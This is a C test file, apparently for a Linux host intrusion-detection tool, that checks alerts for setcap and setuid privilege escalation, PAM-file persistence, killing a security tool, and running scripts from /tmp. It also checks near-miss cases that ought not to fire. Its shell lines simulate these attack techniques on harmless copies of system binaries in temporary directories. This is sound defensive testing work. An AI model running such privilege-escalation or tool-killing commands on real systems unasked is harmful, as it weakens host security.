				   "SELECT count(*) > 0 FROM DeviceFileEvents WHERE ActionType ="
				   " 'ExtendedAttributeSet' AND FolderPath = '/usr/lib/%s/helper'",
				   pkg),
		     1);
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) > 0 FROM DeviceFileEvents WHERE FolderPath ="
				   " '/etc/pam.d/%s'",
				   pkg),
		     1);
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) > 0 FROM DeviceFileEvents WHERE ActionType ="
				   " 'SymlinkCreated' AND FolderPath LIKE '%%.wants/%s.service'",
				   pkg),
		     1);
	cr_expect_eq(apt(dir, "purge", pkg), 0, "apt-get purge %s", pkg);
	/* the same, by hand */
	vg_t_sh("cd %s && cp /bin/true vghand && cp /bin/true vghand2 &&"
		" sh -c 'setcap cap_net_raw+ep vghand && chmod u+s vghand2'",
		dir);
	vg_t_sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc/pam.d &&"
		" echo \"# vghand\" > /etc/pam.d/vghand'");
	cr_expect_eq(alerts_for("privesc_setcap", "/vghand", 1, 30000), 1);
	cr_expect_eq(alerts_for("privesc_setid_chmod", "/vghand2", 1, 30000), 1);
	cr_expect_eq(alerts_for("persist_pam", "/etc/pam.d/vghand", 1, 30000), 1);
	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
		cr_expect_eq(alerts_for(rules[i], pkg, 0, 0), 0, "%s", rules[i]);
	vg_t_rmrf(dir);
}

/*
 * A supervisor stopping the security tool it started (vigil host its
 * vigild; here a shell its child, a copy of sleep named falco) is how the
 * tool ends, not an attack; another process killing it is one.
 */
Test(detect, a_parent_stopping_its_security_tool_is_no_attack)
{
	char dir[PATH_MAX];
	pid_t tool;
	int st;

	vg_t_tmpdir(dir, sizeof(dir), "vg-parent");
	fake_tool(dir, "falco", "/bin/sleep");
	fake_tool(dir, "auditd", "/bin/sleep");
	/* near miss: the shell that started it stops it (kill is the shell's own) */
	vg_t_sh("cd %s && sh -c './falco 300 & sleep 0.2; kill -TERM $!; wait $! || true'", dir);
	tool = start_stored(dir, "auditd");
	vg_t_sh("kill -TERM %d", tool);
	cr_assert_eq(waitpid(tool, &st, 0), tool);
	cr_expect_eq(alerts_for("evasion_kill_security_tool", "/auditd", 1, 30000), 1);
	cr_expect_eq(vg_t_wait_int(&host, 1, 30000,
				   "SELECT count(*) > 0 FROM DeviceEvents WHERE ActionType ="
				   " 'SignalSent' AND FolderPath = '%q/falco'",
				   dir),
		     1);
	cr_expect_eq(alerts_for("evasion_kill_security_tool", "/falco", 0, 0), 0);
	vg_t_rmrf(dir);
}

/*
 * A repository cloned into /tmp and its scripts run (a developer's
 * checkout) is no payload run from /tmp; a script copied out of it there
 * and run is.
 */
Test(detect, a_git_checkout_in_tmp_is_the_developers_own)
{
	char dir[PATH_MAX];

	vg_t_tmpdir(dir, sizeof(dir), "vg-clone");
	vg_t_sh("cd %s && git init -q origin && cd origin && printf '#!/bin/sh\\nexit 0\\n' > run.sh &&"
		" chmod +x run.sh && git add run.sh && git -c user.name=vg -c user.email=vg@localhost"
		" commit -qm x && cd .. && git clone -q origin clone && ./clone/run.sh vg-clone-near &&"
		" sh clone/run.sh vg-clone-near",
		dir);
	vg_t_sh("cd %s && cp clone/run.sh copied.sh && ./copied.sh vg-clone-copy", dir);
	cr_expect_eq(alerts_for("exec_from_tmp", "/copied.sh", 1, 30000), 1);
	cr_expect_eq(alerts_for("exec_from_tmp", "/clone/run.sh", 0, 0), 0);
	vg_t_rmrf(dir);
}

/*
 * The host runs the detections at most once a second while batches arrive;
 * what the last batches stored is evaluated when it stops all the same: a
 * set-user-ID chmod right before SIGTERM is an alert in the store it leaves.
 */
Test(detect, the_last_batch_before_a_stop_is_evaluated)
{
	char dir[PATH_MAX];
	sqlite3 *db;

	vg_t_tmpdir(dir, sizeof(dir), "vg-last");
	/*
	 * Batches arriving all along (a new file every 10 ms, still going when
	 * the host is told to stop), so the chmod's is stored between two runs.
	 */
	vg_t_sh("cd %s && cp /bin/true lastsh && { for i in $(seq 300); do echo x > b$i;"
		" sleep 0.01; done & echo $! > busy.pid; } && sleep 1.5 && chmod 4755 lastsh",
		dir);
	cr_assert_eq(vg_t_host_stop(&host, SIGTERM), 0);
	vg_t_sh("kill $(cat %s/busy.pid) 2>/dev/null; true", dir);
	db = vg_t_db_open(&host);
	cr_expect_eq(vg_t_query_int(db, "SELECT count(*) FROM AlertInfo a JOIN AlertEvidence e"
					" USING (AlertId) WHERE a.RuleId = 'privesc_setid_chmod'"
					" AND e.FolderPath LIKE '%%/vg-last%%/lastsh'"),
		     1);
	sqlite3_close(db);
	vg_t_rmrf(dir);
}
